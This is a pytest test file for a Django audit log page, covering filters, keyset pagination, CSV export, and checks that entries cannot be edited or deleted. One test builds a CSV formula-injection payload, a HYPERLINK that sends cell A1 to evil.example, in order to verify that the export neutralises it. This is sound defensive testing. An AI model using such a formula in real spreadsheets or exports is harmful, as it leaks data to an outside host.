"""The audit log page: filters, keyset pages, CSV export (formula-safe), and no way to change
or delete an entry (the model, the page, Django's admin)."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from sync import audit
from sync.models import AuditEntry, ImmutableAuditEntry
from tests.conftest import make_user

pytestmark = pytest.mark.django_db


def entry(at, actor="ana", action="resync", target="ThreatActor:apt29", **fields):
    return AuditEntry.objects.create(at=at, actor_name=actor, action=action, target=target, **fields)


@pytest.fixture
def viewer(viewer):
    """The reader, less the entry its role assignment wrote (dashboard.user_audit): these tests
    count the entries they write."""
    AuditEntry.objects.filter(target=f"user:{viewer.username}").delete()
    return viewer


@pytest.fixture
def trail():
    now = timezone.now()
    rows = [entry(now - timedelta(minutes=n), actor="ana" if n % 2 else "ben",
                  action=("conflict.resolve", "dead_letter.retry", "resync")[n % 3],
                  target=f"{('ThreatActor', 'KEV')[n % 2]}:uid-{n}") for n in range(120)]
    return now, rows


def test_the_page_shows_the_newest_entries_with_before_after_and_note(client, viewer):
    entry(timezone.now(), actor="ana", action="conflict.resolve", target="ThreatActor:apt29",
          before={"severity": "high"}, after={"severity": "critical"}, note="two vendors agree now")
    client.force_login(viewer)
    page = client.get("/audit/").content.decode()
    assert "conflict.resolve" in page and "ThreatActor:apt29" in page
    assert "<dt>severity</dt><dd>high</dd>" in page and "<dd>critical</dd>" in page
    assert "two vendors agree now" in page and "1 entry" in page


def test_pages_are_keyset_pages_newest_first(client, viewer, trail):
    now, rows = trail
    client.force_login(viewer)
    first = client.get("/audit/").context["page"]
    assert [e.pk for e in first.entries] == [r.pk for r in rows[:50]]
    assert first.newer is None and first.count == 120
    second = client.get("/audit/", {"before": str(first.older)}).context["page"]
    assert [e.pk for e in second.entries] == [r.pk for r in rows[50:100]]
    entry(now + timedelta(seconds=1))  # written while reading: the pages read stay put
    third = client.get("/audit/", {"before": str(second.older)}).context["page"]
    assert [e.pk for e in third.entries] == [r.pk for r in rows[100:]] and third.older is None
    back = client.get("/audit/", {"after": str(third.newer)}).context["page"]
    assert [e.pk for e in back.entries] == [r.pk for r in rows[50:100]]


def test_entries_with_the_same_time_are_not_lost_between_pages(viewer):
    at = timezone.now()
    rows = [entry(at, target=f"KEV:{n}") for n in range(7)]
    seen, cursor = [], None
    while True:
        found = audit.page(before=cursor, size=3)
        seen += [e.pk for e in found.entries]
        if found.older is None:
            break
        cursor = found.older
    assert sorted(seen) == sorted(r.pk for r in rows) and len(seen) == 7


def test_filters_by_user_action_target_and_time(client, viewer, trail):
    now, rows = trail
    client.force_login(viewer)

    def shown(**query):
        return {e.pk for e in client.get("/audit/", {**query, "user": query.get("user", "")}).context["page"].entries}

    def expected(keep):
        return {r.pk for r in rows if keep(r)}

    assert shown(user="ana", action="resync") == expected(lambda r: r.actor_name == "ana" and r.action == "resync")
    assert shown(target="KEV:uid-7") == expected(lambda r: r.target.startswith("KEV:uid-7")) == {
        rows[n].pk for n in (7, 71, 73, 75, 77, 79)}
    assert shown(target="KEV:uid-7", user="ben") == set()  # odd n are ana's
    assert shown(action="conflict.") == expected(lambda r: r.action.startswith("conflict."))
    assert shown(action="dead_letter.retry", target="ThreatActor:") == expected(
        lambda r: r.action == "dead_letter.retry" and r.target.startswith("ThreatActor:"))
    since, until = (now - timedelta(minutes=10)), (now - timedelta(minutes=5))
    assert shown(since=since.isoformat(), until=until.isoformat()) == {r.pk for r in rows[5:11]}
    page = client.get("/audit/", {"user": "nobody"}).content.decode()
    assert "No audit entry matches this filter" in page


@pytest.mark.parametrize(("query", "message"), [
    ({"since": "yesterday"}, "since must be an ISO 8601 time"),
    ({"before": "page-2"}, "before must be a page link"),
    ({"since": "2026-12-02T10:00", "until": "2026-12-01T10:00"}, "since must be before until"),
])
def test_a_bad_filter_is_a_400_that_says_why(client, viewer, query, message):
    client.force_login(viewer)
    response = client.get("/audit/", query)
    assert response.status_code == 400 and message in response.content.decode()
    assert client.get("/audit/export.csv", {k: v for k, v in query.items() if k != "before"}).status_code == (
        400 if "before" not in query else 200)


def test_the_count_is_bounded(viewer, trail, monkeypatch):
    monkeypatch.setattr(audit, "COUNT_LIMIT", 100)
    found = audit.page()
    assert (found.count, found.count_capped) == (100, True)


def export(client, **query):
    response = client.get("/audit/export.csv", query)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_export_streams_every_matching_entry(client, viewer, trail, monkeypatch):
    now, rows = trail
    client.force_login(viewer)
    monkeypatch.setattr(audit, "csv_rows", lambda where, chunk=7, _rows=audit.csv_rows: _rows(where, chunk=chunk))
    table = export(client)
    assert table[0] == list(audit.CSV_COLUMNS)
    assert [int(row[0]) for row in table[1:]] == [r.pk for r in rows]
    only = export(client, user="ben", target="KEV:")
    assert {int(row[0]) for row in only[1:]} == {r.pk for r in rows if r.actor_name == "ben" and r.target.startswith("KEV:")}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_export_neutralises_formulas(client, viewer, start):
    hostile = f"{start}HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
    entry(timezone.now(), actor=f"{start}cmd", action="resync", target=hostile, note=hostile,
          before={"x": 1}, after=[f"{start}1+1"])
    client.force_login(viewer)
    row = export(client)[1]
    for cell in row[2:]:
        assert not cell.startswith(audit.FORMULA_STARTS), row
    assert row[4] == "'" + hostile and row[7] == "'" + hostile and row[2] == f"'{start}cmd"
    assert row[5] == '{"x": 1}'


def test_entries_cannot_be_changed_or_deleted_through_the_model(viewer):
    kept = AuditEntry.record(viewer, "resync", "KEV:CVE-2024-0001", note="first")
    kept.note = "rewritten"
    with pytest.raises(ImmutableAuditEntry):
        kept.save()
    with pytest.raises(ImmutableAuditEntry):
        kept.delete()
    assert AuditEntry.objects.get(pk=kept.pk).note == "first"


def test_the_page_offers_no_way_to_change_an_entry(client, admin_user):
    entry(timezone.now(), note="kept")
    client.force_login(admin_user)
    page = client.get("/audit/").content.decode()
    assert "<form method=\"post\"" not in page.split('id="audit"')[1]
    assert client.post("/audit/").status_code == 405
    assert client.post("/audit/export.csv").status_code == 405


def test_django_admin_cannot_change_delete_or_add_audit_entries(client, admin_user):
    kept = entry(timezone.now(), note="kept")
    superuser = make_user("root", "admin")
    superuser.is_superuser = True
    superuser.save()
    for who in (admin_user, superuser):
        client.force_login(who)
        change = client.get(f"/admin/sync/auditentry/{kept.pk}/change/").content.decode()
        assert 'name="_save"' not in change and "Delete" not in change.split("<form")[-1]
        assert client.post(f"/admin/sync/auditentry/{kept.pk}/change/", {"note": "edited"}).status_code == 403
        assert client.post(f"/admin/sync/auditentry/{kept.pk}/delete/", {"post": "yes"}).status_code == 403
        assert client.post("/admin/sync/auditentry/", {"action": "delete_selected", "_selected_action": [kept.pk],
                                                       "post": "yes"}).status_code in (200, 302)
        assert client.get("/admin/sync/auditentry/add/").status_code == 403
    assert AuditEntry.objects.get(pk=kept.pk).note == "kept"


def test_a_role_change_in_the_admin_site_is_audited_with_the_admin_named(client, admin_user):
    from django.contrib.auth.models import Group, User

    vera = make_user("vera", "viewer")
    client.force_login(admin_user)
    form = client.get(f"/admin/auth/user/{vera.pk}/change/").context["adminform"].form
    data = {name: form[name].value() for name in form.fields if form[name].value() is not None}
    data.update(groups=[Group.objects.get(name="analyst").pk], date_joined_0=vera.date_joined.strftime("%Y-%m-%d"),
                date_joined_1=vera.date_joined.strftime("%H:%M:%S"), user_permissions=[])
    data.pop("date_joined", None)
    data.pop("last_login", None)
    response = client.post(f"/admin/auth/user/{vera.pk}/change/", data)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert list(User.objects.get(pk=vera.pk).groups.values_list("name", flat=True)) == ["analyst"]
    change = AuditEntry.objects.get(action="user.role", actor=admin_user)
    assert change.target == "user:vera" and change.note == "in the admin site"
    assert change.before["role"] == "viewer" and change.after["role"] == "analyst"
    client.post(f"/admin/auth/user/{vera.pk}/delete/", {"post": "yes"})
    assert AuditEntry.objects.get(action="user.delete").before["role"] == "analyst"


def test_role_changes_by_command_are_audited(db):
    from django.core.management import call_command

    call_command("create_user", "otto", "--role", "viewer", stdout=io.StringIO())
    call_command("set_role", "otto", "analyst", stdout=io.StringIO())
    assert list(AuditEntry.objects.order_by("at", "id").values_list("action", "target", "actor_name")) == [
        ("user.create", "user:otto", "command"), ("user.role", "user:otto", "command"),
        ("user.role", "user:otto", "command")]
    assert AuditEntry.objects.filter(action="user.role").first().after == {"role": "analyst", "groups": ["analyst"]}


def test_a_target_prefix_longer_than_the_indexed_head_still_filters(viewer):
    long = "Report:" + "x" * 300
    kept = entry(timezone.now(), target=long + "-a")
    entry(timezone.now(), target=long + "-b")
    entry(timezone.now(), target="Report:y")
    assert [e.pk for e in audit.page(audit.AuditFilter(target=long + "-a")).entries] == [kept.pk]
    assert len(audit.page(audit.AuditFilter(target=long[:150])).entries) == 2
    assert len(audit.page(audit.AuditFilter(target="Report:")).entries) == 3
